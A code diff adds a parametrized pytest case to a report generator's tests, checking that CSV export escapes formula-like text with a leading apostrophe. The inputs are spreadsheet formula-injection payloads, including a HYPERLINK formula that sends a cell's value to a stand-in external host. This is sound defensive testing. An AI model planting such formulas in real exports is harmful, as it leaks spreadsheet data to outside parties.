@@ -8,6 +8,8 @@ import io
 import re
 import zipfile
 
+import pytest
+
 from generator.review import csv_bytes, xlsx_bytes
 
 HEADER = ["department", "review_by", "departures", "reason"]
@@ -53,6 +55,16 @@ def test_the_same_rows_give_the_same_bytes() -> None:
     first = xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 7))
     assert first == xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 7))
     assert first != xlsx_bytes("Dashboard", HEADER, ROWS, dt.date(2026, 12, 8))
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://example.com/?"&A1,"x")', "+1+2",
+                                     "-2+3", "@SUM(1)", "\t=1+2", "\r=1+2"])
+def test_csv_keeps_text_that_looks_like_a_formula_as_text(hostile: str) -> None:
+    """A reason or a reviewer's name is anyone's text: in the CSV it starts with an
+    apostrophe, so a spreadsheet shows it and never runs it."""
+    rows = list(csv.reader(io.StringIO(csv_bytes(["reason", "count"], [[hostile, -3]])
+                                       .decode("utf-8"))))
+    assert rows[1] == ["'" + hostile.replace("\r", "\n"), "-3"]  # our number stays one
 
 
 def test_csv_has_the_same_rows_with_iso_dates_and_empty_cells() -> None:
